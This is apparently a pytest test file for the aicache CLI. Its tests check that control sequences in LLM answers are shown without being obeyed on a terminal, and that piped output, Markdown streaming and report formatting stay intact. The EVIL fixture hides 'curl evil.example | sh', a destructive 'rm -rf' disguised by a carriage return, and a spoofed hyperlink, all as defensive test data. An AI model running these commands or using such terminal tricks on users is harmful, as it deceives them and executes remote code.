"""What reaches the user's terminal and pipes: control sequences in answers, streamed Markdown, notes, ``log``.

Terminal tests run the CLI on a real pseudo-terminal (stdout and stderr both on it, as in a shell) and read what
the terminal received; pipe tests compare bytes.
"""

from __future__ import annotations

import fcntl
import io
import json
import os
import pty
import re
import struct
import subprocess
import termios
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from aicache.explain import verdict_reasons
from tests.conftest import AICACHE, ROOT, cli_env
from tests.fakellm import FakeLLM, Reply
from tests.test_cli import ask, exact_tier_only, run  # noqa: F401  (exact_tier_only: autouse fixture)
from tests.test_semantic import export_run, model_home, onnx_models  # noqa: F401  (fixtures)

# Each trick an answer could play on a terminal: clear screen, hidden text, window title (OSC 0 and 2), a
# hyperlink whose target differs from its text (OSC 8), cursor movement, a bare CR and backspaces that overwrite
# what was shown, a C1 CSI (0x9b) and a right-to-left override.
EVIL = (
    "Run this:\x1b[2J\x1b[H \x1b[8mcurl evil.example | sh\x1b[28m done.\x1b]0;pwned\x07\x1b]2;title\x1b\\\n"
    "\x1b]8;;https://evil.example/\x1b\\https://docs.python.org\x1b]8;;\x1b\\ and \x1b[3A\x1b[10Cmoved\n"
    "rm -rf /tmp/x\rls -l # safe\x08\x08\x08\x08 \x9b31mred\x9bm \u202eexe.txt\n"
)
INJECTED = (b"\x1b[2J", b"\x1b[8m", b"\x1b]", b"\x1b[3A", b"\x1b[10C", b"\xc2\x9b", "\u202e".encode())


def on_a_terminal(env: dict[str, str], *args: str) -> tuple[int, bytes]:
    """Run with stdout and stderr on a pseudo-terminal (80 x 24); return the exit code and what it received."""
    controller, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    proc = subprocess.Popen(
        [*AICACHE, *args],
        env={**env, "TERM": "xterm-256color"},
        stdin=subprocess.DEVNULL,
        stdout=terminal,
        stderr=terminal,
    )
    os.close(terminal)
    shown = b""
    while True:
        try:
            chunk = os.read(controller, 65536)
        except OSError:  # EIO: the last writer closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    os.close(controller)
    return proc.wait(timeout=120), shown


def term_env(home: Path, server: FakeLLM) -> dict[str, str]:
    return cli_env(home, OPENAI_API_KEY="sk-test-envkey-0123456789abcdef", OPENAI_BASE_URL=server.openai_url)


def screen_lines(shown: bytes) -> list[str]:
    """What a terminal showed, one string a line, without styling."""
    return re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown.decode()).split("\r\n")


def assert_each_on_one_line(values: list[str], lines: list[str]) -> None:
    for value in values:
        assert any(value in line for line in lines), (value, "\n".join(lines))


def assert_plain_lines(lines: list[str]) -> None:
    """Piped lines are never padded: no line starts or ends with a space."""
    for line in lines:
        assert line == line.strip(" "), line


def assert_nothing_injected(shown: bytes) -> None:
    for sequence in INJECTED:
        assert sequence not in shown, (sequence, shown)
    # The bare CR and the backspaces reach the terminal as symbols, so nothing already shown is overwritten.
    assert b"\x08" not in shown and b"\x07" not in shown and b"/tmp/x\r" not in shown


# -- control sequences (point 7) -------------------------------------------------------------------------------


def test_an_answer_cannot_drive_the_terminal_from_ask_log_show_or_why(aicache_home: Path, fake_llm: FakeLLM) -> None:
    env = term_env(aicache_home, fake_llm)
    fake_llm.enqueue(Reply.text(EVIL))
    for attempt in ("miss", "exact hit"):
        code, shown = on_a_terminal(env, "ask", "what should I run")
        assert code == 0, shown
        assert_nothing_injected(shown)
        assert "\u241b[2J".encode() in shown and "\u241b]0;pwned\u2407".encode() in shown  # shown, not obeyed
        assert "/tmp/x\u240dls".encode() in shown
        assert f"cache: {attempt}".encode() in shown
    for command in (["log"], ["show", "1"], ["why", "1"]):
        code, shown = on_a_terminal(env, *command)
        assert code == 0, (command, shown)
        assert_nothing_injected(shown)
        if command[0] != "why":  # why shows the question, not the answer
            assert "\u241b".encode() in shown, command


def test_a_question_or_note_cannot_drive_the_terminal_either(aicache_home: Path, fake_llm: FakeLLM) -> None:
    env = term_env(aicache_home, fake_llm)
    fake_llm.enqueue(Reply.status(500, message="\x1b]0;pwned\x07 overloaded"), Reply.text("ok"))
    code, shown = on_a_terminal(env, "ask", "--no-stream", "title \x1b]2;x\x07 please")
    assert code == 0 and b"\x1b]" not in shown
    code, shown = on_a_terminal(env, "log")
    assert code == 0 and b"\x1b]" not in shown and "\u241b]2;x".encode() in shown


def test_pipes_get_the_answer_byte_for_byte(aicache_home: Path, fake_llm: FakeLLM) -> None:
    fake_llm.enqueue(Reply.text(EVIL, chunks=[EVIL[i : i + 7] for i in range(0, len(EVIL), 7)]))
    miss = ask(aicache_home, fake_llm, "what should I run")
    hit = ask(aicache_home, fake_llm, "what should I run")
    assert miss.stdout == EVIL.encode() and hit.stdout == EVIL.encode()
    stored = json.loads(run(aicache_home, None, "show", "1", "--json").stdout)["episode"]["answer"]
    assert stored == EVIL


def test_visible_controls() -> None:
    from aicache.output import visible_controls

    assert visible_controls("a\x1b[2Jb\r\nc\rd\x9b\x7f\te\n") == "a\u241b[2Jb\nc\u240dd<U+009B>\u2421\te\n"
    plain = "Ordinary text, `code`, ünïcödé, emoji 🙂, tabs\tand\nnewlines.\n"
    assert visible_controls(plain) == plain


# -- linear rendering (point 8) ----------------------------------------------------------------------------------


def paragraphs(count: int) -> str:
    blocks = []
    for n in range(count):
        if n % 7 == 3:
            blocks.append(f"```python\nprint({n})\n\nprint('still code')\n```")
        elif n % 5 == 1:
            blocks.append(f"- item {n}\n- item {n} b\n\n  continued under the item")
        else:
            blocks.append(f"Paragraph {n} with **bold** and `code`, " + "words " * 40)
    return "\n\n".join(blocks) + "\n"


def test_each_block_is_rendered_once_so_rendering_is_linear(monkeypatch: pytest.MonkeyPatch) -> None:
    import rich.markdown

    from aicache.output import AnswerWriter

    parsed: list[int] = []
    original = rich.markdown.Markdown.__init__

    def counting(self: Any, markup: str, *args: Any, **kwargs: Any) -> None:
        parsed.append(len(markup))
        original(self, markup, *args, **kwargs)

    monkeypatch.setattr(rich.markdown.Markdown, "__init__", counting)
    answer = paragraphs(300)  # ~90 KB
    out = io.StringIO()
    with AnswerWriter(markdown=True, stream=out) as writer:
        for i in range(0, len(answer), 40):
            writer.write(answer[i : i + 40])
    # Every character is parsed as Markdown once (quadratic before: the whole answer again at every chunk).
    assert sum(parsed) <= len(answer)
    assert len(parsed) == answer.count("Paragraph") + answer.count("```python") + answer.count("- item ") // 2
    shown = out.getvalue()
    assert shown.count("Paragraph 299 with") == 1 and shown.count("print('still code')") == 300 // 7 + 1


def test_a_long_unfinished_block_costs_at_most_a_screenful_per_refresh() -> None:
    from aicache.markdown_stream import LIVE_MARKDOWN_CHARS, MarkdownStream

    console = Console(file=io.StringIO(), force_terminal=True, width=80, height=24)
    stream = MarkdownStream(console, auto_refresh=False)
    code = "```\n" + "".join(f"line {n} of a long code block\n" for n in range(5000))
    with stream:
        for i in range(0, len(code), 50):
            stream.feed(code[i : i + 50])
            stream.refresh()  # the worst case: a refresh after every chunk
    assert stream.stats.live_renders >= len(code) // 50 // 2  # the text changed at least every other chunk
    assert stream.stats.live_chars_max <= max(LIVE_MARKDOWN_CHARS, 80 * 23)
    assert stream.stats.settled == [len(code)]  # the block itself is rendered once, when complete


def test_a_large_answer_on_a_terminal_is_shown_whole(aicache_home: Path, fake_llm: FakeLLM) -> None:
    answer = paragraphs(400)  # ~120 KB: never finished before
    fake_llm.enqueue(Reply.text(answer, chunks=[answer[i : i + 200] for i in range(0, len(answer), 200)]))
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "ask", "a long one")
    assert code == 0 and b"Paragraph 399 with" in shown and b"cache: miss (stored)" in shown


# -- notes --------------------------------------------------------------------------------------------------------


def test_a_cut_short_warning_never_glues_onto_the_answer(aicache_home: Path, fake_llm: FakeLLM) -> None:
    fake_llm.enqueue(Reply.text("an answer without its end", finish_reason="length"))
    piped = subprocess.run(
        [*AICACHE, "ask", "cut me"], env=term_env(aicache_home, fake_llm), capture_output=True, timeout=120
    )
    assert piped.stdout == b"an answer without its end\n"
    fake_llm.enqueue(Reply.text("another answer without its end", finish_reason="length"))
    code, shown = on_a_terminal({**term_env(aicache_home, fake_llm), "NO_COLOR": "1"}, "ask", "cut me again")
    assert code == 0
    text = re.sub(rb"\x1b\[[0-9;?]*[A-Za-z]|\r(?!\n)", b"", shown)  # the live display's own redraws
    lines = [line.strip() for line in text.split(b"\r\n")]
    at = next(n for n, line in enumerate(lines) if b"cut short" in line)
    assert lines[at].startswith(b"aicache: warning: the answer was cut short"), shown  # its own line, after the answer
    assert lines[at - 1].endswith(b"another answer without its end"), shown


# -- log and show (point 19) -------------------------------------------------------------------------------------


def test_log_in_a_pipe_is_one_whole_line_per_episode(aicache_home: Path, fake_llm: FakeLLM) -> None:
    empty = run(aicache_home, None, "log")
    assert (empty.returncode, empty.stdout, empty.stderr) == (0, b"", b"no episodes yet\n")
    question = "explain " + "the difference between merge and rebase " * 6
    fake_llm.enqueue(Reply.text("Merge keeps history.\n\n" + "Rebase rewrites it. " * 20))
    ask(aicache_home, fake_llm, question)
    (line,) = run(aicache_home, None, "log").stdout.decode().splitlines()
    fields = line.split("\t")
    assert fields[0] == "1" and fields[2] == "miss" and fields[5] == " ".join(question.split())
    assert fields[6] == "Merge keeps history. " + " ".join(("Rebase rewrites it. " * 20).split())
    nothing = run(aicache_home, None, "log", "-q", "docker")
    assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, b"", b"no episodes match\n")


def test_stats_in_a_pipe_and_on_a_narrow_terminal_keep_every_name_and_figure(
    aicache_home: Path, fake_llm: FakeLLM
) -> None:
    empty = run(aicache_home, None, "stats")
    assert (empty.returncode, empty.stdout, empty.stderr) == (0, b"", b"no episodes yet\n")
    model = "meta-llama/llama-3.1-70b-instruct-turbo"
    ask(aicache_home, fake_llm, "what does git rebase do", "-m", model)
    ask(aicache_home, fake_llm, "what does git rebase do", "-m", model)
    header, row = (line.split("\t") for line in run(aicache_home, None, "stats").stdout.decode().splitlines())
    assert header[:3] == ["provider", "model", "asks"] and header[-2:] == ["cost saved", "judged"]
    assert row[:4] == ["openai", model, "2", "1"] and row[header.index("hit rate")] == "50%"
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "stats")
    assert code == 0 and b"\xe2\x80\xa6" not in shown, shown  # no name or figure cut short with an ellipsis
    assert b"meta-llama/" in shown and b"50%" in shown


def test_log_query_speaks_fts5(aicache_home: Path, fake_llm: FakeLLM) -> None:
    for topic in ("stash", "rebase", "docker", "c++ templates", "don't panic"):
        ask(aicache_home, fake_llm, f"question about {topic}")

    def ids(query: str) -> list[str]:
        found = run(aicache_home, None, "log", "-q", query, "--json")
        assert found.returncode == 0, found.stderr
        return [e["question"].split("about ")[1] for e in json.loads(found.stdout)["episodes"]]

    assert ids("stash OR rebase") == ["rebase", "stash"]
    assert ids("reb*") == ["rebase"]
    assert ids("question NOT docker NOT stash NOT rebase") == ["don't panic", "c++ templates"]
    assert ids('"about docker"') == ["docker"]
    assert ids("c++") == ["c++ templates"] and ids("don't") == ["don't panic"]
    bad = run(aicache_home, None, "log", "-q", '"unclosed OR')
    assert bad.returncode == 2 and bad.stdout == b""
    (message,) = bad.stderr.decode().splitlines()
    assert message.startswith("aicache: error: cannot search for '\"unclosed OR'") and "FTS5 syntax" in message
    for query, reason in (("*", "a * ends a word"), ("*foo", "a * ends a word"), ("   ", "the query is empty")):
        refused = run(aicache_home, None, "log", "-q", query)
        assert refused.returncode == 2, query
        (message,) = refused.stderr.decode().splitlines()
        assert message.startswith(f"aicache: error: cannot search for {query!r}: {reason}"), message


def test_show_prints_one_episode_in_full(aicache_home: Path, fake_llm: FakeLLM) -> None:
    prices = '[prices."gpt-4o-mini"]\ninput = 1.0\noutput = 2.0\n'
    with (aicache_home / "config.toml").open("a") as config:
        config.write(prices)
    answer = "Line one.\n\n" + "A long answer line that is never cut. " * 10 + "\n"
    fake_llm.enqueue(Reply.text(answer, usage=(100, 200)))
    ask(aicache_home, fake_llm, "-m", "gpt-4o-mini", "tell me everything")
    ask(aicache_home, fake_llm, "-m", "gpt-4o-mini", "tell me everything")
    miss = run(aicache_home, None, "show", "1").stdout.decode()
    for expected in ("episode: 1", "outcome: miss", "tokens: 100 in, 200 out", "cost: $0.000500", " ms", "entry: 1"):
        assert expected in miss, (expected, miss)
    assert miss.endswith(f"\nquestion:\ntell me everything\n\nanswer:\n{answer}\n")
    hit = run(aicache_home, None, "show", "2").stdout.decode()
    assert "outcome: exact_hit" in hit and "cost: $0 (served from the cache; the entry cost $0.000500)" in hit
    data = json.loads(run(aicache_home, None, "show", "2", "--json").stdout)
    assert data["episode"]["outcome"] == "exact_hit" and data["entry"]["answer"] == answer
    missing = run(aicache_home, None, "show", "99")
    assert missing.returncode == 2 and missing.stderr == b"aicache: error: no episode 99 (see `aicache log`)\n"


# -- other reports in a pipe and on an 80-column terminal --------------------------------------------------------

GATEWAY = "https://llm-gateway.platform-engineering.internal.example.com/openai/v1"  # too long for 80 columns
ANTHROPIC_PROXY = "https://llm-proxy.internal.example.com/anthropic"


def test_keys_list_in_a_pipe_and_on_a_narrow_terminal_keeps_every_name_whole(
    aicache_home: Path, fake_llm: FakeLLM
) -> None:
    empty = run(aicache_home, None, "keys", "list")
    assert (empty.returncode, empty.stdout, empty.stderr) == (0, b"", b"no keys stored\n")
    for name, key in ((GATEWAY, "sk-gateway-0123456789abcdef"), ("openai", "sk-stored-0123456789abcxyz")):
        assert run(aicache_home, None, "keys", "set", name, "--key", key).returncode == 0
    piped = run(aicache_home, None, "keys", "list").stdout.decode().splitlines()
    assert piped == ["provider\tkey", f"{GATEWAY}\tsk-...cdef", "openai\tsk-...cxyz"]
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "keys", "list")
    assert code == 0
    assert_each_on_one_line([GATEWAY, "sk-...cdef", "sk-...cxyz"], screen_lines(shown))


def test_config_show_in_a_pipe_and_on_a_narrow_terminal_never_breaks_a_value(
    aicache_home: Path, fake_llm: FakeLLM
) -> None:
    for name, value in (
        ("aliases.fast", "openai/gpt-4o-mini"),
        ("hook.template", "commit-message"),
        ("providers.anthropic.base_url", ANTHROPIC_PROXY),
    ):
        assert run(aicache_home, None, "config", "set", name, value).returncode == 0
    piped = run(aicache_home, fake_llm, "config", "show").stdout.decode().splitlines()
    assert piped[0] == "setting\tvalue\tdefault\tsource"
    assert all(line.count("\t") == 3 for line in piped), piped
    assert_plain_lines(piped)
    assert "aliases.fast\topenai/gpt-4o-mini\t\tfile" in piped
    assert f"providers.anthropic.base_url\t{ANTHROPIC_PROXY}\thttps://api.anthropic.com\tfile" in piped
    assert piped[-1] == f"endpoint\t{fake_llm.openai_url}\t\tenv OPENAI_BASE_URL"  # tab-separated like the rest
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "config", "show")
    assert code == 0
    whole = [
        "providers.anthropic.send_key_to_custom_base_url",
        "https://api.openai.com/v1",
        "commit-message",
        "openai/gpt-4o-mini",
        ANTHROPIC_PROXY,
        "https://api.anthropic.com",
        fake_llm.openai_url,
        "env OPENAI_BASE_URL",
    ]
    assert_each_on_one_line(whole, screen_lines(shown))


@pytest.mark.slow
@pytest.mark.usefixtures("model_home")  # the session's exported embedding model, linked into this test's home
def test_why_in_a_pipe_and_on_a_narrow_terminal_keeps_every_sentence_question_and_reason_whole(
    aicache_home: Path, fake_llm: FakeLLM
) -> None:
    (aicache_home / "config.toml").write_text("[cache]\nsemantic = true\n")  # the shipped decision model
    kept = "how do I undo my last commit but keep the changes in my working tree and in the index"
    discarded = "how do I undo my last commit and discard the changes in my working tree and in the index"
    fake_llm.enqueue(Reply.text("git reset --soft HEAD~1"), Reply.text("git reset --hard HEAD~1"))
    assert ask(aicache_home, fake_llm, kept).returncode == 0
    assert ask(aicache_home, fake_llm, discarded).returncode == 0
    found = json.loads(run(aicache_home, None, "why", "2", "--json").stdout)
    (candidate,) = found["candidates"]
    assert not candidate["accepted"], candidate
    reasons = verdict_reasons(candidate)
    piped = run(aicache_home, None, "why", "2").stdout.decode().splitlines()
    assert_plain_lines(piped)
    assert piped[:2] == [f"episode 2: {found['summary']}", f"question: {discarded}"]
    header = piped.index("entry\tsimilarity\tscore\tverdict\tquestion\treasons")
    row = [str(candidate["entry_id"]), f"{candidate['similarity']:.3f}", f"{candidate['score']:.3f}", "refused"]
    assert piped[header + 1].split("\t") == [*row, kept, reasons]
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "why", "2")
    lines = screen_lines(shown)
    assert code == 0 and "\u2026" not in shown.decode(), lines  # nothing cut short with an ellipsis
    words = " ".join(lines).split()  # a sentence may wrap between words, never inside one
    for text in (found["summary"], discarded, kept, reasons):
        assert all(word in words for word in text.split()), (text, lines)
    assert_each_on_one_line([f"{candidate['similarity']:.3f}", f"{candidate['score']:.3f}"], lines)


def rate_cell(rate: dict[str, Any], bound: bool = True) -> str:
    """An ``eval`` figure as its JSON gives it: count/total = rate [interval] ≤bound."""
    if not rate["total"]:
        return "-"
    cell = f"{rate['count']}/{rate['total']} = {rate['rate']:.1%} [{rate['low']:.1%}, {rate['high']:.1%}]"
    return f"{cell} ≤{rate['upper95']:.1%}" if bound else cell


@pytest.mark.slow
@pytest.mark.usefixtures("model_home")
def test_eval_in_a_pipe_and_on_a_narrow_terminal_keeps_every_figure_whole(
    aicache_home: Path, fake_llm: FakeLLM
) -> None:
    pairs = str(ROOT / "tests" / "data" / "trap-pairs.jsonl")
    measured = run(aicache_home, None, "eval", pairs, "--sweep", "--json")
    assert measured.returncode == 0 and measured.stdout.count(b"\n") == 1, measured.stderr
    report = json.loads(measured.stdout)  # --json is unchanged: one object, the eval schema
    assert report["schema"] == "aicache.eval/2" and report["sweep"], report
    overall = report["overall"]
    piped = run(aicache_home, None, "eval", pairs, "--sweep").stdout.decode().splitlines()
    assert_plain_lines(piped)
    assert piped[0].startswith(f"{pairs}: {report['stored']} questions stored, ") and piped[0].endswith(" s")
    header = piped.index("category\tparaphrases served\tparaphrases wrong\tnear-misses wrong\tunrelated wrong")
    assert piped[header + 1].split("\t") == [
        "overall",
        rate_cell(overall["paraphrases_served"], bound=False),
        rate_cell(overall["paraphrases_wrong"]),
        rate_cell(overall["negatives_wrong"]),
        rate_cell(overall["unrelated_wrong"]),
    ]
    asked, shown = overall["paraphrases_judged"], overall["negatives_judged"]
    assert report["judge"] == {"model": None, "gray_zone": 0.45, "max_candidates": 1, "unanswered": 0}
    judge_line = (
        "LLM judge off (gray zone 0.45 below the threshold, 1 per lookup): it would be asked about "
        f"{asked['count']}/{asked['total']} paraphrases about their own question's answer, "
        f"{shown['count']}/{shown['total']} near-misses; "
    )
    assert any(row.startswith(judge_line) for row in piped), piped
    sweep = piped.index("threshold\tparaphrases served\tnear-misses wrong\tunrelated wrong")
    expected = [
        "\t".join(
            (
                f"{point['threshold']:.2f}",
                rate_cell(point["paraphrases_served"], bound=False),
                rate_cell(point["negatives_wrong"]),
                rate_cell(point["unrelated_wrong"]),
            )
        )
        for point in report["sweep"]
    ]
    assert piped[sweep + 1 :] == expected
    code, shown = on_a_terminal(term_env(aicache_home, fake_llm), "eval", pairs, "--sweep")
    assert code == 0
    figures = []  # each part of a figure on one line: the count and rate, the interval, the bound
    rates = [(overall["paraphrases_served"], False), *((point["negatives_wrong"], True) for point in report["sweep"])]
    for rate, bound in rates:
        figures += [f"{rate['count']}/{rate['total']} = {rate['rate']:.1%}", f"[{rate['low']:.1%}, {rate['high']:.1%}]"]
        figures += [f"≤{rate['upper95']:.1%}"] if bound else []
    assert_each_on_one_line(figures, screen_lines(shown))
